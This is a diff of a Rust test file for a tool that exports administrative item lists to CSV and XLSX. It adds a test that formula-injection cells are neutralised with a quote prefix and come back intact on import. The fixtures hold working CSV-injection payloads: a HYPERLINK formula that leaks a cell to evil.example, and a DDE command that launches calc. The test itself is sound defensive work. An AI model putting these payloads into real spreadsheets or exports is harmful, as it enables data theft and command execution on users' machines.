@@ -117,7 +117,8 @@ fn check_csv(data: &Path, site: &Site, list: &ItemList) {
     assert_eq!(rows.len(), list.items.len(), "{}.csv: one row per item", list.body.value);
     for (row, item) in rows.iter().zip(&list.items) {
         for (h, value) in header.iter().zip(row) {
-            assert_eq!(*value, cell_text(&values, item, h), "{}.csv {} {h}", list.body.value, item.code.value);
+            let written = qingdan::export::csv::guard(&cell_text(&values, item, h)).into_owned();
+            assert_eq!(*value, written, "{}.csv {} {h}", list.body.value, item.code.value);
         }
     }
 }
@@ -167,7 +168,7 @@ fn check_xlsx(data: &Path, site: &Site, list: &ItemList, title: &str) {
         let note = all.iter().position(|h| h == "备注").unwrap();
         assert_eq!(&order[order.len() - 2..], [note, 0], "{name}: 备注 then 清单部分 last");
         let rest = &order[..order.len() - 2];
-        assert!(rest.windows(2).all(|w| w[0] < w[1]), "{name}: other columns in ITEM_COLUMNS order");
+        assert!(rest.windows(2).all(|w| w[0] < w[1]), "{name}: other columns in declaration order");
         let items: Vec<&Item> = list.part(part).collect();
         let last = range.end().unwrap().0;
         assert_eq!((last - 2) as usize, items.len(), "{}.xlsx {name}: item count", list.body.value);
@@ -592,4 +593,152 @@ fn the_docs_describe_every_column() {
         let row = format!("| `{}` | {} | {} |", c.key, c.header, c.meaning);
         assert!(docs.contains(&row), "docs/data.md lacks the row of {} ({})", c.key, c.header);
     }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Formula injection (OWASP "CSV Injection")
+
+/// First characters that make Excel, WPS or LibreOffice run a CSV cell as a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// An item whose cells begin like formulas: attacks (a HYPERLINK that leaks the sheet, a DDE
+/// command), values that legitimately start the same way (a dash for "none", a negative
+/// number, an international phone number), and a value that already starts with the quote.
+const FORMULA_ITEM: &str = r#"
+[[basic]]
+code = "DC-QT-099"
+number = "-1"
+name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"
+sub_items = ["+1+1", "@SUM(1+1)*cmd|' /C calc'!A0"]
+type = "行政确认"
+origin = "法定"
+subject = "-"
+basis = "\t=1+1 以制表符开头的依据"
+note = "\r=2+3 以回车开头的备注"
+supervision_phone = "+86 571 12345"
+extra = { "原表说明" = "'=已有单引号", "负数" = "-3", "两个引号" = "''@x", "普通" = "'不变" }
+
+"#;
+
+/// Every cell of a CSV file (header included), parsed as a spreadsheet program reads it.
+fn csv_cells(bytes: &[u8]) -> Vec<String> {
+    let body = bytes.strip_prefix(BOM).unwrap_or(bytes);
+    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(body);
+    r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
+}
+
+#[test]
+fn formula_looking_cells_are_neutralised_in_every_csv_and_import_back_exactly() {
+    let tmp = TempDir::new("export-formulas");
+    let root = starter(&tmp);
+    let list = root.join("content/lists/dongcun.toml");
+    let text = std::fs::read_to_string(&list).unwrap();
+    let at = text.find("[[support]]").unwrap();
+    std::fs::write(&list, format!("{}{FORMULA_ITEM}{}", &text[..at], &text[at..])).unwrap();
+    let body = root.join("content/bodies/dongcun.toml");
+    let text = std::fs::read_to_string(&body).unwrap().replacen(
+        "phone = \"0571-00000100\"",
+        "phone = \"+86 571 00000100\"",
+        1,
+    );
+    std::fs::write(&body, text).unwrap();
+    let root_arg = root.to_str().unwrap();
+    let run = qingdan([
+        "release",
+        "--root",
+        root_arg,
+        "--title",
+        "首次公布",
+        "--effective",
+        "2025-10-01",
+        "--document",
+        "示编办〔2025〕1号",
+    ]);
+    assert_eq!(run.code, 0, "{run}");
+    // A change after the release, so the diff has formula-looking old and new values.
+    let text = std::fs::read_to_string(&list).unwrap().replacen("subject = \"-\"", "subject = \"=1-1\"", 1);
+    std::fs::write(&list, text).unwrap();
+    let out = tmp.join("public");
+    build(&root, &out);
+
+    // Every CSV the site publishes: no cell begins like a formula.
+    let csvs: Vec<PathBuf> = walk(&out).into_iter().filter(|p| p.extension().is_some_and(|e| e == "csv")).collect();
+    for must in ["data/dongcun.csv", "data/all-items.csv", "data/bodies.csv"] {
+        assert!(csvs.contains(&out.join(must)), "{must} was not written");
+    }
+    let mut release_csvs_with_item = 0;
+    for path in &csvs {
+        let bytes = std::fs::read(path).unwrap();
+        let cells = csv_cells(&bytes);
+        for c in &cells {
+            assert!(!c.starts_with(FORMULA_START), "{}: cell {c:?} would run as a formula", path.display());
+        }
+        if cells.iter().any(|c| c == "DC-QT-099")
+            && !path.ends_with("data/dongcun.csv")
+            && !path.ends_with("data/all-items.csv")
+        {
+            release_csvs_with_item += 1;
+        }
+    }
+    assert!(release_csvs_with_item > 0, "no release CSV holds the item: {csvs:#?}");
+    // The quote prefix is the only change, and only where needed.
+    let (header, rows) = read_csv(&out.join("data/dongcun.csv"));
+    let row = rows.iter().find(|r| r.contains(&"DC-QT-099".to_string())).unwrap();
+    let col = |h: &str| &row[header.iter().position(|x| x == h).unwrap_or_else(|| panic!("no column {h}"))];
+    assert_eq!(col("事项名称"), "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")");
+    assert_eq!(col("序号"), "'-1");
+    assert_eq!(col("子项名称"), "'+1+1\n@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(col("行使主体"), "'=1-1");
+    assert_eq!(col("实施依据"), "'\t=1+1 以制表符开头的依据");
+    assert_eq!(col("备注"), "'\r=2+3 以回车开头的备注");
+    assert_eq!(col("监督电话"), "'+86 571 12345");
+    assert_eq!(col("原表说明"), "''=已有单引号");
+    assert_eq!(col("负数"), "'-3");
+    assert_eq!(col("两个引号"), "'''@x");
+    assert_eq!(col("普通"), "'不变");
+    assert_eq!(col("事项编码"), "DC-QT-099");
+    let (header, rows) = read_csv(&out.join("data/bodies.csv"));
+    let phone = header.iter().position(|h| h == "电话").unwrap();
+    assert!(rows.iter().any(|r| r[phone] == "'+86 571 00000100"), "{rows:?}");
+
+    // `qingdan diff --format csv` goes through the same writer.
+    let run = qingdan(["diff", "2025-10-01", "current", "--root", root_arg, "--format", "csv"]);
+    assert_eq!(run.code, 0, "{run}");
+    let cells = csv_cells(run.stdout.as_bytes());
+    assert!(cells.iter().any(|c| c == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"), "{}", run.stdout);
+    assert!(cells.iter().any(|c| c == "'-") && cells.iter().any(|c| c == "'=1-1"), "{}", run.stdout);
+    for c in &cells {
+        assert!(!c.starts_with(FORMULA_START), "diff CSV: cell {c:?} would run as a formula");
+    }
+
+    // XLSX writes text as text: the formula-looking name is a string cell, not a formula.
+    let mut wb: Xlsx<_> = calamine::open_workbook(out.join("data/dongcun.xlsx")).unwrap();
+    let range = wb.worksheet_range(Part::Basic.name()).unwrap();
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
+    assert!(range.used_cells().any(|(_, _, d)| *d == Data::String(name.into())), "the name is a string cell");
+    let formulas = wb.worksheet_formula(Part::Basic.name()).unwrap();
+    assert_eq!(formulas.used_cells().count(), 0, "no formula in the XLSX");
+
+    // Import undoes the prefix: export → import gives back every value, as the XLSX (which
+    // has no prefix) does. Import trims white space at the ends of every cell, whatever the
+    // format, so the tab and carriage return that began two values are not expected back.
+    let site = load(&root);
+    let original = site.list("dongcun").unwrap();
+    let from_csv = import_into_copy(&root, &tmp, "import-formulas-csv", "dongcun", &out.join("data/dongcun.csv"));
+    let from_xlsx = import_into_copy(&root, &tmp, "import-formulas-xlsx", "dongcun", &out.join("data/dongcun.xlsx"));
+    let (from_csv, from_xlsx) = (from_csv.list("dongcun").unwrap(), from_xlsx.list("dongcun").unwrap());
+    assert_same_items("csv and xlsx", from_xlsx, from_csv);
+    assert_eq!(from_csv.items.len(), original.items.len());
+    for (a, b) in original.items.iter().zip(&from_csv.items) {
+        for f in Field::ALL {
+            assert_eq!(b.text(*f), a.text(*f).trim(), "{} {}", a.code.value, f.label());
+        }
+    }
+    let item = from_csv.items.iter().find(|i| i.code.value == "DC-QT-099").unwrap();
+    assert_eq!(item.name, name);
+    assert_eq!(item.number.as_deref(), Some("-1"));
+    assert_eq!(item.subject.as_deref(), Some("=1-1"));
+    assert_eq!(item.sub_items, ["+1+1", "@SUM(1+1)*cmd|' /C calc'!A0"]);
+    assert_eq!(item.basis.text, "=1+1 以制表符开头的依据");
+    assert_eq!(item.extra.iter().find(|(k, _)| k == "原表说明").map(|(_, v)| v.as_str()), Some("'=已有单引号"));
 }
